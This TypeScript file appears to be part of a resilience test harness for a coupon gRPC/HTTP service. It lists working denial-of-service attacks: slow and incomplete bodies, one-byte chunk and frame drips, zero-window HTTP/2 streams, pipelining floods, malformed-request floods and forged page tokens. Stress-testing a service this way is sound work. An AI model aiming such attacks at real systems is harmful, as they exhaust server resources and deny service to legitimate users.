import type { ClientHttp2Session, ClientHttp2Stream } from "node:http2"
import type { Socket } from "node:net"
import { setTimeout as pause } from "node:timers/promises"
import { codeAttacks } from "./codeAttacks.ts"
import { connectionAttacks } from "./connectionAttacks.ts"
import { frame, hello, PREFACE } from "./Frames.ts"
import { operatorAttacks } from "./operatorAttacks.ts"
import type { Wire } from "./Wire.ts"

/** One way to take the service from others, or their coupons. */
export interface Attack {
  readonly name: string
  readonly what: string
  /** Settings that the instance needs for it. */
  readonly env?: Readonly<Record<string, string>>
  /** Whether honest tills redeem coupons beside it. */
  readonly besideTills?: true
  readonly run: (wire: Wire) => Promise<void>
}

/** In production a page has no codes for callers without a key. */
const LISTING = { NODE_ENV: "development" }

const SERVICE = "/coupon.v1.CouponService"
const JSON_TYPE = { "content-type": "application/json" }
const GRPC = { "content-type": "application/grpc", te: "trailers" }

const call = (rpc: string, body: string, headers = "") =>
  Buffer.from(`POST ${SERVICE}/${rpc} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${headers}` +
    `Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`)

const page = ({ target }: Wire) => `{"campaignId":${target.campaignId}}`

/** A token as the service makes it: any caller can make one, so that each page is another one. */
const tokenAfter = ({ target }: Wire, afterId: number) =>
  Buffer.from(`${target.campaignId}.${afterId}`).toString("base64url")

/** A message of gRPC: a campaign's page. */
const grpcPage = ({ target }: Wire) => {
  const varint: Array<number> = []
  let rest = target.campaignId
  for (; rest > 127; rest >>>= 7) varint.push(rest & 127 | 128)
  varint.push(rest)
  return Buffer.from([0, 0, 0, 0, varint.length + 1, 8, ...varint])
}

/** A message of gRPC without a field: Watch of the whole server. */
const EMPTY_MESSAGE = Buffer.alloc(5)

/** Opens connections again that were closed, and has each make requests at a steady rate; answers are read. */
const asking = async (wire: Wire, connections: number, perSecond: number, request: (n: number) => Buffer) => {
  const sockets: Array<Socket> = []
  await wire.every(perSecond, (n) => {
    const at = n % connections
    if (sockets[at] === undefined || sockets[at].destroyed) {
      sockets[at] = wire.connect()
      sockets[at].resume()
    }
    sockets[at].write(request(n))
  })
}

/** Sessions that are open; those that were closed are opened again, at most one of each a second. */
const keeping = async (
  wire: Wire,
  sessions: number,
  use: (session: ClientHttp2Session) => void,
  settings: Parameters<Wire["session"]>[0] = {}
) => {
  const open: Array<ClientHttp2Session> = []
  while (!wire.over()) {
    for (let at = 0; at < sessions && !wire.over(); at++) {
      if (open[at] !== undefined && !open[at]!.destroyed) continue
      const session = open[at] = wire.session(settings)
      session.once("connect", () => use(session))
      await pause(2)
    }
    await pause(1_000)
  }
}

const stream = (
  session: ClientHttp2Session,
  path: string,
  headers: Record<string, string>,
  paused = true
): ClientHttp2Stream | undefined => {
  if (session.destroyed || session.closed) return undefined
  const one = session.request({ ":method": "POST", ":path": path, ...headers })
  one.on("error", () => {})
  if (paused) one.pause()
  else one.resume()
  return one
}

/** Connections over HTTP/1.1 that each write a text in the given pieces, once, and are opened again when they close. */
const crowd = async (wire: Wire, connections: number, open: (socket: Socket) => void) => {
  const sockets: Array<Socket | undefined> = []
  while (!wire.over()) {
    for (let at = 0; at < connections && !wire.over(); at++) {
      if (sockets[at] !== undefined && !sockets[at]!.destroyed) continue
      const socket = sockets[at] = wire.connect()
      socket.once("connect", () => open(socket))
      if (at % 8 === 7) await pause(1)
    }
    await pause(250)
  }
}

const LARGE_BODY = 65_536
const WITHOUT_LAST_BYTE = Buffer.alloc(LARGE_BODY - 1, " ")
const HEAD = (path: string, type: string, more: string) =>
  `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: ${type}\r\n${more}\r\n`

/** A body of 60,000 chunks, each of which has one byte, without the last chunk. */
const ONE_BYTE_CHUNKS = Buffer.from("1\r\n \r\n".repeat(1_000))

const pipelined = async (wire: Wire, connections: number, request: Buffer) => {
  const burst = Buffer.concat(Array.from({ length: Math.ceil(65_536 / request.length) }, () => request))
  await Promise.all(Array.from({ length: connections }, async () => {
    while (!wire.over()) {
      await wire.pour(wire.connect(), () => burst)
      await pause(50)
    }
  }))
}

/** Bodies over HTTP/2 that lack their last byte. */
const unfinishedBodies = (
  wire: Wire,
  sessions: number,
  path: string,
  headers: Record<string, string>,
  body = WITHOUT_LAST_BYTE
) =>
  keeping(wire, sessions, (session) => {
    for (let n = 0; n < 250; n++) stream(session, path, headers)?.write(body)
  })

export const attacks: ReadonlyArray<Attack> = [
  {
    name: "pages",
    env: LISTING,
    what: "GetCampaign, the largest page, 110 a second (162 kbit/s), answers read",
    run: (wire) => asking(wire, 16, 110, () => call("GetCampaign", page(wire)))
  },
  {
    name: "pages-brotli",
    env: LISTING,
    what: "the same with Accept-Encoding: br",
    run: (wire) => asking(wire, 16, 110, () => call("GetCampaign", page(wire), "Accept-Encoding: br\r\n"))
  },
  {
    name: "pages-grpc",
    env: LISTING,
    what: "the same over gRPC with gzip",
    run: async (wire) => {
      const session = wire.session()
      await wire.every(110, () => {
        stream(session, `${SERVICE}/GetCampaign`, { ...GRPC, "grpc-accept-encoding": "gzip" }, false)
          ?.end(grpcPage(wire))
      })
    }
  },
  {
    name: "pages-tokens",
    env: LISTING,
    what: "the same by GET, each from another coupon on, so that no page is asked for twice",
    run: (wire) =>
      asking(wire, 16, 110, (n) => {
        const message = {
          campaignId: wire.target.campaignId,
          pageSize: 10_000 - n % 1_000,
          pageToken: tokenAfter(wire, n * 7 % 9_000)
        }
        const query = `encoding=json&message=${encodeURIComponent(JSON.stringify(message))}`
        return Buffer.from(`GET ${SERVICE}/GetCampaign?${query} HTTP/1.1\r\nHost: x\r\n\r\n`)
      })
  },
  {
    name: "pages-burst",
    env: LISTING,
    what: "GetCampaign, a burst of 1.5 MB on 256 connections, then silence; answers read",
    run: async (wire) => {
      const burst = Buffer.concat(Array.from({ length: 32 }, () => call("GetCampaign", page(wire))))
      for (let n = 0; n < 256; n++) {
        const socket = wire.connect()
        socket.resume()
        socket.write(burst)
      }
      await wire.hold()
    }
  },
  {
    name: "pages-unread",
    env: LISTING,
    what: "GetCampaign over HTTP/2, 64 connections of 250 streams with a window of 0: no answer is read",
    run: (wire) =>
      keeping(wire, 64, (session) => {
        for (let n = 0; n < 250; n++) stream(session, `${SERVICE}/GetCampaign`, JSON_TYPE)?.end(page(wire))
      }, { initialWindowSize: 0 })
  },
  {
    name: "pages-unread-http1",
    env: LISTING,
    what: "GetCampaign over HTTP/1.1, 1,000 connections whose answers are not read",
    run: (wire) => crowd(wire, 1_000, (socket) => socket.write(call("GetCampaign", page(wire))))
  },
  {
    name: "watch",
    what: "Health/Watch, 120 connections of 250 streams",
    run: (wire) =>
      keeping(wire, 120, (session) => {
        for (let n = 0; n < 250; n++) stream(session, "/grpc.health.v1.Health/Watch", GRPC)?.end(EMPTY_MESSAGE)
      })
  },
  {
    name: "watch-http1",
    what: "Health/Watch by Connect over HTTP/1.1: 2,000 connections that send more and say FIN",
    run: (wire) =>
      crowd(wire, 2_000, (socket) => {
        const body = "\0\0\0\0\x02{}"
        const length = `Content-Length: ${body.length}\r\n`
        const head = HEAD("/grpc.health.v1.Health/Watch", "application/connect+json", length)
        socket.write(`${head}${body}`)
        socket.end(call("GetCampaign", page(wire)))
      })
  },
  {
    name: "reflection",
    what: "reflection, 120 connections of 250 streams that ask for the largest file and read nothing",
    run: (wire) => {
      const symbol = Buffer.from("coupon.v1.CouponService")
      const message = Buffer.concat([Buffer.from([0, 0, 0, 0, symbol.length + 2, 0x22, symbol.length]), symbol])
      const path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
      return keeping(wire, 120, (session) => {
        for (let n = 0; n < 250; n++) stream(session, path, GRPC)?.write(Buffer.concat([message, message, message]))
      }, { initialWindowSize: 0 })
    }
  },
  {
    name: "pipelining",
    what: "32 connections send reads without waiting and read no answer",
    run: (wire) => pipelined(wire, 32, call("GetCoupon", `{"campaignId":${wire.target.campaignId},"userId":1}`))
  },
  {
    name: "pipelining-tiny",
    what: "32 connections send GET /livez without waiting, and come again when they are closed",
    run: (wire) => pipelined(wire, 32, Buffer.from("GET /livez HTTP/1.1\r\nHost: x\r\n\r\n"))
  },
  {
    name: "pipelining-claims",
    what: "32 connections send claims of a campaign that does not exist without waiting",
    run: (wire) => pipelined(wire, 32, call("IssueCoupon", "{\"campaignId\":2000000000,\"userId\":1}"))
  },
  {
    name: "pipelining-grpc-web",
    what: "32 connections send gRPC-Web without waiting",
    run: (wire) =>
      pipelined(
        wire,
        32,
        Buffer.concat([
          Buffer.from(
            HEAD(`${SERVICE}/GetCampaign`, "application/grpc-web", `Content-Length: ${grpcPage(wire).length}\r\n`)
          ),
          grpcPage(wire)
        ])
      )
  },
  {
    name: "last-byte",
    what: "bodies of 64 KiB without their last byte, HTTP/2, 64 connections of 250 streams",
    run: (wire) =>
      unfinishedBodies(wire, 64, `${SERVICE}/IssueCoupon`, { ...JSON_TYPE, "content-length": String(LARGE_BODY) })
  },
  {
    name: "last-byte-grpc",
    what: "the same over gRPC",
    run: (wire) => {
      const body = Buffer.alloc(LARGE_BODY - 1)
      body.writeUInt32BE(LARGE_BODY - 5, 1)
      return unfinishedBodies(wire, 64, `${SERVICE}/IssueCoupon`, GRPC, body)
    }
  },
  {
    name: "last-byte-http1",
    what: "the same over HTTP/1.1, 2,000 connections",
    run: (wire) =>
      crowd(wire, 2_000, (socket) => {
        socket.write(HEAD(`${SERVICE}/IssueCoupon`, "application/json", `Content-Length: ${LARGE_BODY}\r\n`))
        socket.write(WITHOUT_LAST_BYTE)
      })
  },
  {
    name: "last-byte-operator",
    what: "the same to the operator plane, HTTP/2",
    run: (wire) => unfinishedBodies(wire, 64, "/operator/rpc", { "content-type": "application/ndjson" })
  },
  {
    name: "one-byte-chunks",
    what: "256 bodies over HTTP/1.1 in chunks of one byte, without an end",
    run: (wire) =>
      crowd(wire, 256, (socket) => {
        socket.write(HEAD(`${SERVICE}/IssueCoupon`, "application/json", "Transfer-Encoding: chunked\r\n"))
        let left = 60
        void wire.pour(socket, () => left-- > 0 ? ONE_BYTE_CHUNKS : undefined)
      })
  },
  {
    name: "one-byte-frames",
    what: "1,600 bodies over HTTP/2 in frames of one byte, without an end",
    run: (wire) =>
      keeping(wire, 16, (session) => {
        for (let n = 0; n < 100; n++) {
          const one = stream(session, `${SERVICE}/IssueCoupon`, JSON_TYPE)
          const drip = () => {
            if (one === undefined || one.destroyed || wire.over()) return
            for (let k = 0; k < 20; k++) one.write(" ")
            setTimeout(drip, 50)
          }
          drip()
        }
      })
  },
  {
    name: "unfinished",
    what: "3,000 connections that stop within the headers, the preface or a frame",
    run: (wire) => {
      // HEADERS without END_HEADERS, and a frame whose payload does not come.
      const headers = frame(1, 0, 1, Buffer.from([0x83]))
      const incomplete = Buffer.from([0, 64, 0, 4, 0, 0, 0, 0, 0])
      const openings = [
        Buffer.from("POST /coup"),
        Buffer.from(HEAD(`${SERVICE}/IssueCoupon`, "application/json", "Content-Length: 100\r\n").slice(0, -2)),
        PREFACE.subarray(0, 10),
        PREFACE,
        Buffer.concat([hello(), headers]),
        Buffer.concat([hello(), incomplete])
      ]
      let next = 0
      return crowd(wire, 3_000, (socket) => socket.write(openings[next++ % openings.length]!))
    }
  },
  {
    name: "rubbish",
    what: "what is no request, in every protocol, 500 a second",
    run: (wire) => {
      const bad = [
        call("IssueCoupon", "{"),
        call("GetCampaign", "[]"),
        call("IssueCoupon", "{\"campaignId\":1,\"userId\":1}", "Content-Encoding: gzip\r\n"),
        Buffer.from(`${HEAD(`${SERVICE}/GetCampaign`, "application/grpc-web", "Content-Length: 5\r\n")}\0\0\0\0\x09`),
        Buffer.from(`GET ${SERVICE}/GetCampaign?message=%ff&encoding=proto&base64=1 HTTP/1.1\r\nHost: x\r\n\r\n`),
        Buffer.from(
          "POST /operator/rpc HTTP/1.1\r\nHost: x\r\nContent-Type: application/ndjson\r\nContent-Length: 3\r\n\r\n{}\n"
        ),
        Buffer.from("GET / HTTP/1.1\r\n\r\n"),
        Buffer.from("\x16\x03\x01\r\n\r\n"),
        call("ListCampaigns", "{}"),
        call("CreateCampaign", "{}", "Authorization: Bearer cpn_x_y\r\n")
      ]
      return asking(wire, 50, 500, (n) => bad[n % bad.length]!)
    }
  },
  ...connectionAttacks,
  ...operatorAttacks,
  ...codeAttacks
]
